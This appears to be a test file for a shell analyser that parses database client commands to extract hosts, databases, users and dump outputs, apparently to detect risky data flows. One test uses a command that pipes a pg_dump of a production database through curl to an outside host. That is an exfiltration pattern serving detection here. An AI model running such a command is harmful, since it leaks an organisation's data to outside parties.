import assert from 'node:assert/strict';
import * as fs from 'node:fs';
import * as path from 'node:path';
import { describe, it } from 'node:test';
import {
  dbConnection,
  dbDump,
  dbInvocation,
  DB_SUBCOMMANDS,
  DB_TOOLS,
  isInfoOnly,
  parseConnectionString,
  type DbConnection,
} from '../../../server/src/core/shell/db-clients';
import { commandFacts } from '../../../server/src/core/shell/facts';
import type { ShellCommand } from '../../../server/src/core/shell/model';
import { CORPUS, NEEDS_CORPUS } from '../../helpers/parsers';
import { analyze } from './helpers';

/** The last command of `text` that is a database tool (after unwrapping sudo, env, ssh…). */
async function tool(text: string): Promise<ShellCommand> {
  const a = await analyze(text);
  const found = a.commands.filter((c) => dbInvocation(c) !== undefined);
  const cmd = found[found.length - 1];
  assert.ok(cmd, `no database tool in ${text}`);
  return cmd;
}

async function connection(text: string): Promise<DbConnection | undefined> {
  return dbConnection(await tool(text));
}

describe('dbConnection: hosts of every database and infra client', () => {
  // [command, hosts, database, user]
  const cases: [string, string[], string?, string?][] = [
    // PostgreSQL client applications: -h H, -hH, --host=H, --host H; -p is the port.
    ['pg_dump -h prod-db app', ['prod-db'], 'app'],
    ['pg_dump -hprod-db -p 5432 app', ['prod-db'], 'app'],
    ['pg_dump --host=prod-db --port=5432 -U ops app', ['prod-db'], 'app', 'ops'],
    ['pg_dump --host prod-db --port 5432 app', ['prod-db'], 'app'],
    ['pg_dump -Fc -t users -d app -h db.prod.internal -f out.dump', ['db.prod.internal'], 'app'],
    ['pg_dump postgresql://ops:secret@prod-db:6432/app', ['prod-db'], 'app', 'ops'],
    ['pg_dump --dbname=postgresql://ops@prod-db/app', ['prod-db'], 'app', 'ops'],
    ["pg_dump -d 'host=prod-db port=5432 dbname=app user=ops'", ['prod-db'], 'app', 'ops'],
    ['pg_dumpall -h primary,replica-prod -l postgres', ['primary', 'replica-prod'], 'postgres'],
    ["pg_dumpall --dbname='host=prod-db' -f all.sql", ['prod-db']],
    ['pg_restore -h prod-db -d app -j 4 backup.dump', ['prod-db'], 'app'],
    ['pgbench -h prod-db -p 5433 -c 10 -d -T 60 bench', ['prod-db'], 'bench'],
    ["psql -h prod-db -c 'SELECT 1'", ['prod-db']],
    ['psql postgres://prod-db/app', ['prod-db'], 'app'],
    ['psql -h /var/run/postgresql app', [], 'app'],
    ['psql -h ::1 app', ['::1'], 'app'],
    ["psql 'postgresql://[::1]:5432/app'", ['::1'], 'app'],
    ['PGHOST=prod-db PGUSER=ops pg_dump app', ['prod-db'], 'app', 'ops'],
    ['sudo -u postgres pg_dump -h prod-db app', ['prod-db'], 'app'],
    // MySQL / MariaDB: -P is the port, -p takes its password only attached.
    ['mysql -h prod-db -P 3306 -uroot -psecret shop', ['prod-db'], 'shop', 'root'],
    ['mysql -u root -p -h prod-db shop', ['prod-db'], 'shop', 'root'],
    ["mysql --host=prod-db --port=3306 -D shop -e 'SELECT 1'", ['prod-db'], 'shop'],
    ['mariadb --host prod-db shop', ['prod-db'], 'shop'],
    ['mysqldump -hprod-db shop users orders', ['prod-db'], 'shop'],
    ['mariadb-dump --host=prod-db --single-transaction shop', ['prod-db'], 'shop'],
    ['MYSQL_HOST=prod-db mysqldump shop', ['prod-db'], 'shop'],
    // MongoDB: mongosh/mongo take a URI or `host[:port]/db` operand (`-h` is --help there).
    ['mongosh mongodb://ops:pw@prod1:27017,prod2/app', ['prod1', 'prod2'], 'app', 'ops'],
    ['mongosh --host rs0/prod1:27017,prod2:27017 app', ['prod1', 'prod2'], 'app'],
    ["mongo prod-db:27017/app --eval 'db.users.count()'", ['prod-db'], 'app'],
    ['mongosh app', [], 'app'],
    [
      'mongodump --uri=mongodb+srv://ops@cluster0.prod.example.net/app',
      ['cluster0.prod.example.net'],
      'app',
      'ops',
    ],
    ['mongodump -h prod-db --port 27017 -d app --archive', ['prod-db'], 'app'],
    ['mongoexport --host=prod-db -d app -c users -o users.json', ['prod-db'], 'app'],
    ['mongorestore --uri mongodb://prod-db/ dump/', ['prod-db']],
    // redis-cli: -h, -u URI; -p is the port, -n the database number.
    ['redis-cli -h prod-cache -p 6379 -n 2 GET k', ['prod-cache'], '2'],
    ['redis-cli -u redis://:pw@prod-cache:6379/0 KEYS x', ['prod-cache'], '0'],
    // sqlite3 opens a file: no host.
    ["sqlite3 app.db 'SELECT 1'", [], 'app.db'],
    // ClickHouse: --host/-h, or a clickhouse:// connection string.
    ["clickhouse-client --host=prod-ch -q 'SELECT 1'", ['prod-ch']],
    ['clickhouse-client clickhouse://ops@prod-ch:9000/events', ['prod-ch'], 'events', 'ops'],
    ["clickhouse client -h prod-ch --port 9000 -q 'SELECT 1'", ['prod-ch']],
    // DuckDB opens a file (or `md:` MotherDuck database): no host.
    ["duckdb prod.duckdb 'SELECT 1'", [], 'prod.duckdb'],
    // sqlcmd: -S [tcp:]host[\\instance][,port], -d, -U; SQLCMDSERVER.
    ["sqlcmd -S tcp:prod-sql,1433 -d shop -U sa -Q 'SELECT 1'", ['prod-sql'], 'shop', 'sa'],
    ["sqlcmd -S 'prod-sql\\main' -Q 'SELECT 1'", ['prod-sql']],
    ["SQLCMDSERVER=prod-sql sqlcmd -Q 'SELECT 1'", ['prod-sql']],
    // bq: the project (a global flag or the query's) is where the query runs.
    ["bq --project_id=acme-prod query 'SELECT 1'", ['acme-prod']],
    ["bq query --project_id acme-prod --dataset_id ds 'SELECT 1'", ['acme-prod'], 'ds'],
    // Snowflake: the account.
    ["snowsql -a acme-prod -d shop -u ops -q 'SELECT 1'", ['acme-prod'], 'shop', 'ops'],
    ["snow sql --account acme-prod -q 'SELECT 1'", ['acme-prod']],
    // MySQL Shell: URI-like operand or --uri, -h.
    ['mysqlsh ops@prod-db:3306/shop --sql', ['prod-db'], 'shop', 'ops'],
    ['mysqlsh --uri mysqlx://ops@prod-db:33060/shop --sql', ['prod-db'], 'shop', 'ops'],
    ['mysqlsh --uri=ops@prod-db --sql', ['prod-db'], undefined, 'ops'],
    // Trino / Presto: --server or the URL operand.
    [
      "trino --server https://prod-trino:8443 --catalog hive --user ops --execute 'SELECT 1'",
      ['prod-trino'],
      'hive',
      'ops',
    ],
    ["presto --server prod-presto:8080 --execute 'SELECT 1'", ['prod-presto']],
    // usql: the DSN.
    ['usql postgres://ops@prod-db/app', ['prod-db'], 'app', 'ops'],
    // pgcli, mycli, litecli: their psql / mysql / sqlite3 counterparts' options.
    ['pgcli -h prod-db -U ops app', ['prod-db'], 'app', 'ops'],
    ['mycli -h prod-db -u ops shop', ['prod-db'], 'shop', 'ops'],
    ['litecli app.db', [], 'app.db'],
    // Beeline: the JDBC URL; SQL*Plus: the logon's connect identifier.
    ['beeline -u jdbc:hive2://prod-hive:10000/sales -n ops', ['prod-hive'], 'sales', 'ops'],
    ['sqlplus -s scott/tiger@//prod-ora:1521/ORCL @x', ['prod-ora'], 'ORCL', 'scott'],
    ['sqlplus scott@prod-tns', ['prod-tns'], undefined, 'scott'],
    ['sqlplus /nolog', []],
  ];
  for (const [text, hosts, database, user] of cases) {
    it(text, async () => {
      assert.deepEqual(await connection(text), {
        hosts,
        ...(database ? { database } : {}),
        ...(user ? { user } : {}),
      });
    });
  }

  it('commandFacts reports the hosts (for environment detection) and a remote-db sink', async () => {
    const dump = commandFacts(await tool('pg_dump -h prod-db app | curl -T - https://x.example/up'));
    assert.deepEqual(dump.hosts, ['prod-db']);
    assert.deepEqual(dump.sinks, [{ kind: 'remote-db', target: 'prod-db', direction: 'in' }]);
    const query = commandFacts(await tool("psql -h prod-db -c 'DELETE FROM t WHERE id = 1'"));
    assert.deepEqual(query.sinks, [{ kind: 'remote-db', target: 'prod-db', direction: 'out' }]);
    assert.deepEqual(commandFacts(await tool('psql app')).hosts, []);
  });

  it('is not fooled by values that look like options or hosts', async () => {
    // The password `-h…` attached to mysql -p is not a host; pgbench -d is --debug.
    assert.deepEqual(await connection('mysql -p-hsecret shop'), { hosts: [], database: 'shop' });
    assert.deepEqual((await connection('pgbench -d bench'))?.database, 'bench');
    // mongodump --archive takes a file only as --archive=FILE; it does not eat --host.
    assert.deepEqual((await connection('mongodump --archive --host prod-db'))?.hosts, ['prod-db']);
    // redis-cli stops reading options at the command: `-h` after it is an argument.
    assert.deepEqual((await connection('redis-cli -h cache ECHO -h'))?.hosts, ['cache']);
    // A dynamic host is not guessed.
    assert.deepEqual((await connection('pg_dump -h "$DB_HOST" app'))?.hosts, []);
  });
});

describe('parseConnectionString', () => {
  it('reads URIs and libpq keyword/value strings, leaving out what they do not give', () => {
    assert.deepEqual(parseConnectionString('mysql://ops@prod-db:3306/shop'), {
      hosts: ['prod-db'],
      user: 'ops',
      database: 'shop',
    });
    assert.deepEqual(parseConnectionString('rediss://prod-cache:6380'), { hosts: ['prod-cache'] });
    assert.deepEqual(parseConnectionString("host='a b' dbname=x"), { hosts: ['a b'], database: 'x' });
    assert.deepEqual(parseConnectionString('not a connection string'), { hosts: [] });
  });
});

describe('dbDump', () => {
  const dump = async (text: string) => dbDump(await tool(text));
  it('dump tools write to stdout or to their output option', async () => {
    assert.deepEqual(await dump('pg_dump app'), { program: 'pg_dump', files: [], stdout: true });
    assert.deepEqual(await dump('pg_dump -Fc -f app.dump app'), {
      program: 'pg_dump',
      files: ['app.dump'],
      stdout: false,
    });
    assert.deepEqual(await dump('mysqldump -r all.sql --all-databases'), {
      program: 'mysqldump',
      files: ['all.sql'],
      stdout: false,
    });
    assert.deepEqual((await dump('mongodump --archive=app.archive'))?.files, ['app.archive']);
    assert.equal((await dump('mongodump --archive'))?.stdout, true);
  });
  it('pg_restore dumps only without a database; redis-cli only with --rdb', async () => {
    assert.equal((await dump('pg_restore backup.dump'))?.stdout, true);
    assert.deepEqual((await dump('pg_restore -f restore.sql backup.dump'))?.files, ['restore.sql']);
    assert.equal(await dump('pg_restore -d app backup.dump'), undefined);
    assert.equal(await dump('pg_restore -l backup.dump'), undefined);
    assert.deepEqual(await dump('redis-cli -h cache --rdb dump.rdb'), {
      program: 'redis-cli --rdb',
      files: ['dump.rdb'],
      stdout: false,
    });
    assert.equal(await dump('redis-cli -h cache GET k'), undefined);
    assert.equal(await dump("psql -c 'SELECT 1'"), undefined);
    assert.equal(await dump('pg_dump --version'), undefined);
  });
  it('help and version touch no data', async () => {
    for (const text of ['psql --version', 'psql -V', 'mysql --help', 'mongosh -h', 'redis-cli --version']) {
      const inv = dbInvocation(await tool(text));
      assert.ok(inv && isInfoOnly(inv), text);
    }
    const inv = dbInvocation(await tool("psql -c 'SELECT 1'"));
    assert.ok(inv && !isInfoOnly(inv));
  });
});

describe('option tables', () => {
  it('every table names a documentation page and keeps the port out of the host options', () => {
    const subcommands = DB_SUBCOMMANDS.map((s) => [[s.program, ...s.path].join(' '), s.tool] as const);
    for (const [name, t] of [...Object.entries(DB_TOOLS), ...subcommands]) {
      assert.match(t.doc, /^https:\/\//, name);
      for (const port of ['p', 'P', 'port']) assert.ok(!t.host.includes(port), `${name}: ${port}`);
      for (const h of t.host) {
        const takesValue = h.length === 1 ? (t.options.short ?? '').includes(h) : t.options.long?.includes(h);
        assert.ok(takesValue, `${name}: host option ${h} must take a value`);
      }
    }
  });
});

describe('real commands of the shell corpus that run database tools', { skip: NEEDS_CORPUS }, () => {
  const lines = fs
    .readFileSync(path.join(CORPUS, 'shell/all.cm'), 'utf8')
    .split('\n')
    .filter((l) => l.trim() !== '');
  it('are read with their option tables without a crash; none names a host it does not have', async () => {
    let tools = 0;
    for (const line of lines) {
      const a = await analyze(line);
      for (const c of a.commands) {
        const conn = dbConnection(c);
        if (!conn) continue;
        tools++;
        // Every host reported is written in the command itself.
        for (const h of conn.hosts) assert.ok(line.toLowerCase().includes(h), `${h} not in ${line}`);
      }
    }
    assert.ok(tools >= 15, `only ${tools} database tool commands found`);
  });
});
